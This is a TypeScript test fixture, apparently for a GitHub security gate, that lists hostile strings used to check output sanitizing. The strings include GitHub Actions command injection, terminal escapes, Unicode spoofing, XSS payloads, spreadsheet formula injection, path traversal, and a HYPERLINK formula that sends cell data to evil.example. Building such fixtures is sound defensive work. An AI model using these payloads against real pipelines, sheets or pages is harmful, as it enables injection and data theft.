/**
 * Text as an attacker writes it: in the names of files and devices, in command lines, in the subjects of mail. Every sink of
 * the gate is judged with it.
 */

const BIDI = '\u202e\u202d\u2066\u2069\u061c\u200f'
const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164\u2800'
const TAGS = [...'tag'].map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join('')

/** By the trick that each plays. */
export const HOSTILE: Readonly<Record<string, string>> = {
  // --- the runner
  commandAtStart: '::error::owned',
  commandAfterSpace: ' \t ::set-output name=verdict::passed',
  commandAfterNoBreakSpace: '\u00a0\u3000::add-mask::a',
  commandOnNextLine: 'harmless\n::error file=a.js,line=1::owned',
  commandAfterReturn: 'harmless\r::warning::owned',
  commandAfterSeparators: 'a\u2028::error::b\u2029::error::c\u0085::error::d\v::error::e\f::error::f',
  commandEncoded: 'a%0A::error::b%0D%0A::stop-commands::x%25',
  oldCommand: 'in the middle ##[error]owned ##[group]x',
  oldCommandTwice: '###[command]x ##\u200b[error]',
  environmentFile: 'PATH=/evil\nGITHUB_ENV<<EOF\nx\nEOF',
  heredoc: 'ghadelimiter_00000000-0000-0000-0000-000000000000\nverdict=passed',
  // --- the terminal
  ansi: '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b2J',
  controls: `${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\u007f\u0080\u009f`,
  backspaces: 'failed\b\b\b\b\b\bpassed',
  // --- Unicode
  bidi: `exe.${BIDI}fdp`,
  zeroWidth: `a${ZERO_WIDTH}b`,
  tagCharacters: `flag${TAGS}\u{e007f}`,
  variationSelectors: 'a\ufe0f\ufe00\u{e0100}\u{e01ef}b ⚠\ufe0f\ufe0f',
  loneSurrogates: 'a\ud800b\udfffc\udc00\ud83d',
  noncharacters: '\ufffe\uffff\u{1fffe}',
  combining: `Z${'\u0300'.repeat(200)}`,
  families: '👨\u200d👩\u200d👧\u200d👦'.repeat(30),
  // --- Markdown
  heading: '# Owned\n## Owned\nOwned\n=====',
  emphasis: '**bold** _it_ ~~gone~~ ***x***',
  link: '[click](https://evil.example "t") [ref][1] <https://evil.example>\n\n[1]: https://evil.example',
  image: '![x](https://evil.example/x.png) <img src=https://evil.example/x.png>',
  autolinks:
    'https://evil.example www.evil.example http://evil.example ftp://evil.example a@evil.example mailto:a@evil.example',
  scripts: '<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>',
  links: '[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)>',
  htmlBreakouts: '</details></td></table></summary></a><!-- --> <b> &lt;script&gt; &amp; &#60;',
  tableBreakouts: 'a | b || c \\| d \\\\| e | --- |\n| --- | --- |\n| x | y |',
  codeBreakouts: '` `` ``` ```` `a` ```\n~~~\n```js\n',
  pipesInCode: '`a|b` `\\|` \\`x|y\\`',
  lists: '- a\n* b\n1. c\n- [x] done\n> quote\n---\n***',
  fenceAndMermaid: '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  mermaid: '"] : 1\n%%{init: {"securityLevel":"loose"}}%% <b>x</b> end; click a href "https://evil.example"',
  footnote: '[^1] [^note]\n\n[^1]: x',
  alertBox: '> [!WARNING]\n> owned',
  math: '$\\href{https://evil.example}{x}$ $$x$$ $`x`$',
  details: '<details open><summary>x</summary>',
  // --- GitHub
  mentions: '@octocat @github/security (@octocat) .@octocat',
  references: '#1 GH-1 octocat/hello#1 gh-2 octocat@a5c3785ed8d6a35868bc169f07e40e889087fd2e',
  commits: 'a5c3785ed8d6a35868bc169f07e40e889087fd2e deadbeef abcda5c3785ed8d6a35868bc169f07e40e889087fd2e',
  issueUrl: 'https://github.com/octocat/hello/issues/1',
  emojis: ':rocket: :+1: :a:b:',
  closing: 'fixes #1, closes octocat/hello#2',
  marker: '<!-- defender-gate: open-incidents -->',
  // --- spreadsheets
  formula: "=cmd|' /C calc'!A0",
  formulas: '+1+1',
  minus: '-2+3+cmd|x',
  at: '@SUM(1+1)*cmd|x',
  tabFormula: '\t=1+1',
  returnFormula: '\r=1+1',
  spacedFormula: '  =1+1',
  fullWidthFormula: '＝1+1',
  fullWidthAt: '＠SUM(1)',
  otherSeparator: 'harmless;=1+1;"x";@SUM(1)',
  quoted: '"=1+1","x"\r\n"y"',
  hyperlink: '=HYPERLINK("https://evil.example?x="&A1,"click")',
  // --- programs
  json: '"},"verdict":"passed",{"a":"\\u0000\\ud800',
  sarifText: '[link](https://evil.example) {0} {{1}} [1](2) \\[x\\]',
  prototype: '__proto__',
  path: '../../../../etc/passwd',
  nul: 'a\0b',
  empty: '',
  spaces: '   ',
  onlyNewlines: '\n\n\n',
}

export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE)

/** All of them in one text. */
export const HOSTILE_ALL = HOSTILE_TEXTS.join(' ')

/** A cell of a megabyte that repeats a hostile text. */
export function hugeCell(text: string = HOSTILE_ALL): string {
  return text.repeat(Math.ceil(1_000_000 / text.length))
}
